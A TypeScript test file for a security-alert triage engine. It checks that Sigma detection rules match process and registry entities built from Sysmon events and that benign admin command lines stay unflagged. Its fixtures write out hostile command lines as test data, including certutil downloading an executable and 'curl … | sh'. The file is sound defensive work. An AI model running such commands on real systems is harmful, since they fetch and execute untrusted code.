import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Alert, Entity, Enrichment, Fact } from '@soc/contracts';
import { loadRulesFile, mapWindowsEvent } from '@soc/sigma';
import { loadTriageKnowledge, triageAlert } from '../src/engine.ts';
import { findSigmaHits, sigmaEventsOf } from '../src/sigma.ts';
import { TriageWeights, loadWeights } from '../src/weights.ts';

const weights = loadWeights();
const knowledge = loadTriageKnowledge();
const noFacts: Enrichment = { facts: [], missing: [] };
const base = (n: string): string => n.split(/[\\/]/).pop() ?? n;

function alertOf(entities: Entity[], severity: Alert['severity'] = 'low'): Alert {
  return {
    schemaVersion: 1,
    alertId: 'alt-sigma',
    tenantId: 'contoso',
    source: { name: 'wazuh', product: 'Wazuh', vendorAlertId: 'v-1' },
    title: 'Sysmon - Event 1: Process creation',
    description: '',
    severity,
    status: 'new',
    detectedAt: '2026-11-23T09:59:00.000Z',
    attack: [],
    entities,
    labels: [],
  };
}

/** The process entities the Wazuh parser builds from a Sysmon 1: the new process (image as value) and its parent (related). */
function processEntities(e: { Image?: string; CommandLine?: string; ParentImage?: string; ParentCommandLine?: string; User?: string }): Entity[] {
  const out: Entity[] = [];
  if (e.Image !== undefined)
    out.push({ id: `process:${e.Image}`, type: 'process', value: e.Image, name: base(e.Image), origin: 'source', ...(e.CommandLine !== undefined ? { commandLine: e.CommandLine } : {}), ...(e.ParentImage !== undefined ? { parentName: base(e.ParentImage) } : {}) });
  if (e.ParentImage !== undefined)
    out.push({ id: `process:${e.ParentImage}`, type: 'process', value: e.ParentImage, name: base(e.ParentImage), origin: 'source', role: 'related', ...(e.ParentCommandLine !== undefined ? { commandLine: e.ParentCommandLine } : {}) });
  if (e.User !== undefined) out.push({ id: `user:${e.User}`, type: 'user', value: e.User, origin: 'source', role: 'actor' });
  return out;
}

describe('sigmaEventsOf: the alert\'s entities on Sigma\'s taxonomy', () => {
  it('maps a Windows process with its parent entity to one process_creation event (the parent is not an event of its own)', () => {
    const entities = processEntities({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://10.0.0.1/a.exe a.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentCommandLine: 'cmd.exe /c run.bat', User: 'CORP\\alice' });
    expect(sigmaEventsOf(alertOf(entities))).toEqual([
      {
        event: { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://10.0.0.1/a.exe a.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentCommandLine: 'cmd.exe /c run.bat', User: 'CORP\\alice' },
        logsources: [{ product: 'windows', category: 'process_creation' }],
        fromSource: true,
      },
    ]);
  });

  it('tells Linux from the path, and a bare name from the host\'s OS', () => {
    const linux = sigmaEventsOf(alertOf([{ id: 'p', type: 'process', value: '/usr/bin/curl', name: 'curl', origin: 'source', commandLine: 'curl http://x | sh' }]));
    expect(linux.map((e) => [e.event.Image, e.logsources[0]?.product])).toEqual([['/usr/bin/curl', 'linux']]);
    const host: Entity = { id: 'h', type: 'host', value: 'ws1', os: 'Windows 11 Enterprise', origin: 'source' };
    const bare = sigmaEventsOf(alertOf([host, { id: 'p', type: 'process', value: 'mshta', name: 'mshta', origin: 'source', parentName: 'WINWORD.EXE' }]));
    expect(bare.map((e) => e.event)).toEqual([{ Image: '\\mshta', ParentImage: '\\WINWORD.EXE' }]);
    expect(sigmaEventsOf(alertOf([{ id: 'p', type: 'process', value: 'mshta', name: 'mshta', origin: 'source' }]))).toEqual([]);
  });

  it('makes no event of a process known only by its command line (rules excluding known images would fire on the absence)', () => {
    const cl = 'powershell -NoProfile -ExecutionPolicy Bypass -Command Get-Date';
    expect(sigmaEventsOf(alertOf([{ id: 'p', type: 'process', value: cl, commandLine: cl, origin: 'source' }]))).toEqual([]);
  });

  it('maps a registry entity to registry_set and registry_event with the hive as Sysmon writes it', () => {
    const reg: Entity = { id: 'r', type: 'registry', value: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', key: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', valueName: 'updater', data: 'C:\\Users\\Public\\u.exe', origin: 'source' };
    expect(sigmaEventsOf(alertOf([reg]))).toEqual([
      {
        event: { TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater', Details: 'C:\\Users\\Public\\u.exe' },
        logsources: [{ product: 'windows', category: 'registry_set' }, { product: 'windows', category: 'registry_event' }],
        fromSource: true,
      },
    ]);
  });

  it('gives an alert without process or registry entities no Sigma factor, not a negative one', () => {
    const t = triageAlert(alertOf([{ id: 'ip', type: 'ip', value: '10.0.0.1', origin: 'source' }]), noFacts, weights, knowledge);
    expect(t.risk.factors.filter((f) => f.name.startsWith('sigma'))).toEqual([]);
  });
});

describe('an alert that carries its raw events (sourceEvents)', () => {
  it('is matched on every regression event of every logsource, as the event, not the entity summary', () => {
    let matched = 0;
    for (const r of regression) {
      const m = mapWindowsEvent(r.event);
      const alert = { ...alertOf([]), sourceEvents: [{ logsources: [...m.logsources], fields: m.event as Record<string, string> }] };
      expect(sigmaEventsOf(alert)).toHaveLength(1);
      const hits = new Set(findSigmaHits(alert, knowledge.sigma).map((f) => f.hit.id));
      if (r.info.rule_metadata.some((x) => hits.has(x.id))) matched++;
    }
    // Every regression event, file, network, image-load and WMI events included — the entity path reaches only process creations and registry sets.
    expect(matched).toBe(regression.length);
  });

  it('uses the raw events instead of the entities when it carries both', () => {
    const entities = processEntities({ Image: 'C:\\Windows\\System32\\notepad.exe', CommandLine: 'notepad.exe' });
    const alert = { ...alertOf(entities), sourceEvents: [{ logsources: [{ product: 'windows', category: 'file_event' }], fields: { TargetFilename: 'C:\\Users\\a\\x.txt' } }] };
    expect(sigmaEventsOf(alert).map((e) => e.event)).toEqual([{ TargetFilename: 'C:\\Users\\a\\x.txt' }]);
    expect(sigmaEventsOf(alert)[0]?.fromSource).toBe(true);
  });
});

interface RegressionEvent {
  readonly info: { readonly rule_metadata: readonly { readonly id: string; readonly title: string }[] };
  readonly event: unknown;
}
const regression: RegressionEvent[] = readFileSync(new URL('../../../test/fixtures/sigma/regression_events.jsonl', import.meta.url), 'utf8')
  .trim()
  .split('\n')
  .map((l) => JSON.parse(l) as RegressionEvent);
const creations = regression.flatMap((r) => {
  const m = mapWindowsEvent(r.event);
  if (!m.logsources.some((l) => l.category === 'process_creation')) return [];
  const e = m.event as Record<string, string | undefined>;
  const named = r.info.rule_metadata.map((x) => x.id);
  return [{ named, entities: processEntities({ Image: e.Image ?? e.NewProcessName, CommandLine: e.CommandLine, ParentImage: e.ParentImage ?? e.ParentProcessName, ParentCommandLine: e.ParentCommandLine, User: e.User }) }];
});
const rules = new Map(loadRulesFile().map((r) => [r.id, r]));

describe('Sigma factors on the SigmaHQ regression events\' process creations, through the alert\'s entities', () => {
  it('cites the named rule (id, title, author) in a sigma factor, except where the rule needs a field the process entity does not carry', () => {
    expect(creations.length).toBeGreaterThanOrEqual(70);
    const missed: string[] = [];
    for (const c of creations) {
      const t = triageAlert(alertOf(c.entities), noFacts, weights, knowledge);
      const sigma = t.risk.factors.filter((f) => f.name.startsWith('sigma-'));
      const hits = findSigmaHits(alertOf(c.entities), knowledge.sigma);
      const hit = hits.find((h) => c.named.includes(h.hit.id));
      if (hit === undefined) {
        missed.push(c.named[0] ?? '');
        continue;
      }
      const factor = sigma.find((f) => f.evidence.includes(hit.hit.id));
      expect(factor, hit.hit.id).toBeDefined();
      expect(factor?.name).toBe(`sigma-${hit.hit.level}`);
      expect(factor?.evidence).toContain(`«${hit.hit.title}»`);
      expect(factor?.evidence).toContain(`by ${hit.hit.author}`);
      expect(factor?.evidence).toContain(`status ${hit.hit.status}`);
      expect(sigma.length).toBeLessThanOrEqual(weights.sigma.listed);
      expect(sigma.reduce((n, f) => n + f.points, 0)).toBeLessThanOrEqual(weights.sigma.max);
    }
    // Renamed-binary rules need OriginalFileName, cross-user spawns ParentUser: the contract's process entity has neither.
    expect(missed.length).toBeLessThanOrEqual(creations.length / 10);
    for (const id of missed) expect(JSON.stringify(rules.get(id)?.detection), id).toMatch(/OriginalFileName|ParentUser/);
  });

  it('adds the hits\' ATT&CK techniques to the alert\'s mapping', () => {
    const certutil = processEntities({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil.exe -urlcache -f http://10.0.1.14/malware.exe malware.exe', ParentImage: 'C:\\Windows\\System32\\cmd.exe' });
    const t = triageAlert(alertOf(certutil), noFacts, weights, knowledge);
    expect(t.risk.factors.map((f) => f.name)).toContain('sigma-high');
    expect(t.attack.map((a) => a.techniqueId)).toContain('T1105');
  });

  it('keeps an alert a high Sigma rule matches from being lowered by the rule\'s history', () => {
    const noisy: Fact[] = [{ id: 'rule-history:generic:r-9', kind: 'rule-history', source: 'soc-history', observedAt: '2026-11-23T10:00:00.000Z', statement: 'fired 50 times', attributes: { priorAlertCount: 50, truePositives: 0, benignPositives: 0, falsePositives: 50 } }];
    // certutil decoding a base64 file (a Wazuh Sysmon event's command line): no strong behaviour, only the Sigma rule.
    const entities = processEntities({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil  -decode file.base64 file-decoded.ext' });
    const own = triageAlert(alertOf(entities, 'medium'), noFacts, weights, knowledge);
    const t = triageAlert(alertOf(entities, 'medium'), { facts: noisy, missing: [] }, weights, knowledge);
    expect(own.risk.factors.map((f) => f.name)).toContain('sigma-high');
    expect(own.risk.factors.filter((f) => f.name.startsWith('behaviour-'))).toEqual([]);
    expect(t.risk.score).toBeGreaterThanOrEqual(own.risk.score);
    expect(t.risk.factors.find((f) => f.name === 'evidence-floor')?.evidence).toMatch(/Sigma «File Decoded From Base64\/Hex Via Certutil\.EXE» \(high\) matched the event/);
    const extracted = entities.map((e) => ({ ...e, origin: 'extracted' as const }));
    expect(triageAlert(alertOf(extracted, 'medium'), { facts: noisy, missing: [] }, weights, knowledge).risk.factors.map((f) => f.name)).not.toContain('evidence-floor');
  });
});

interface Sample {
  label: 'attack' | 'benign';
  image?: string;
  parentImage?: string;
  commandLine: string;
}
const samples: Sample[] = readFileSync(new URL('../../../test/fixtures/triage/behaviour/command-lines.jsonl', import.meta.url), 'utf8')
  .split('\n')
  .filter((l) => l.trim() !== '')
  .map((l) => JSON.parse(l) as Sample);

/** The image a benign line is run by, where the fixture names none (they are the values of Sigma rules' filters). */
function imageOf(s: Sample): string {
  if (s.image !== undefined) return s.image;
  const first = /^"?([a-z]:\\[^"]+?\.exe)"?/iu.exec(s.commandLine)?.[1];
  if (first !== undefined) return first;
  if (/^advfirewall/iu.test(s.commandLine)) return 'C:\\Windows\\System32\\netsh.exe';
  if (/^\/create/iu.test(s.commandLine)) return 'C:\\Windows\\System32\\schtasks.exe';
  if (/UpdateDeploy\.dll/iu.test(s.commandLine)) return 'C:\\Windows\\System32\\rundll32.exe';
  if (/MsiExec/iu.test(s.commandLine)) return 'C:\\Windows\\System32\\msiexec.exe';
  if (/cmd\.exe/iu.test(s.commandLine)) return 'C:\\Windows\\System32\\cmd.exe';
  if (s.commandLine.startsWith('/Library/')) return '/Library/Application Support/Microsoft/MAU2.0/Microsoft AutoUpdate.app/Contents/MacOS/Microsoft AutoUpdate';
  return 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
}

describe('benign look-alikes (admin and Chocolatey PowerShell, installers, updates)', () => {
  it('fire no high or critical Sigma rule', () => {
    const benign = samples.filter((s) => s.label === 'benign');
    expect(benign.length).toBeGreaterThanOrEqual(10);
    const strong = benign.flatMap((s) => {
      const hits = findSigmaHits(alertOf(processEntities({ Image: imageOf(s), CommandLine: s.commandLine, ParentImage: s.parentImage })), knowledge.sigma);
      return hits.filter((h) => h.hit.level === 'high' || h.hit.level === 'critical').map((h) => `${s.commandLine.slice(0, 60)} → ${h.hit.title}`);
    });
    expect(strong).toEqual([]);
  });
});

describe('the sigma weights', () => {
  it('are strict: an unknown key or a level missing is refused', () => {
    const raw = JSON.parse(readFileSync(new URL('../config/weights.v1.json', import.meta.url), 'utf8')) as { sigma: Record<string, number> };
    expect(TriageWeights.safeParse(raw).success).toBe(true);
    expect(TriageWeights.safeParse({ ...raw, sigma: { ...raw.sigma, extra: 1 } }).success).toBe(false);
    const { high: _high, ...noHigh } = raw.sigma;
    expect(TriageWeights.safeParse({ ...raw, sigma: noHigh }).success).toBe(false);
  });
});
